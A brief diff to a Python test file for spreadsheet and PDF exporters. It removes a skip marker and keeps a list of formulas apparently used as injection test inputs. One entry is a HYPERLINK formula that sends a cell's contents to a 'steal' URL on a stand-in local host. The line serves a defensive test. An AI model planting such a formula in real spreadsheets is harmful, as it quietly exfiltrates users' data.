@@ -8,7 +8,6 @@ converted by LibreOffice, and the PDF is parsed back with pdftotext and pdfimage
 
 from __future__ import annotations
 
-import importlib.util
 import re
 import shutil
 import subprocess
@@ -20,11 +19,6 @@ import pytest
 
 from estimator.model import Programme
 from tests.reliability.states import make_programme
-
-pytestmark = pytest.mark.skipif(
-    any(importlib.util.find_spec(m) is None for m in ("estimator.export.xlsx", "estimator.export.pdf")),
-    reason="the exporters do not exist yet",
-)
 
 FORMULAS = [
     '=HYPERLINK("http://127.0.0.1:9/steal?"&A1,"Click for the drawings")',
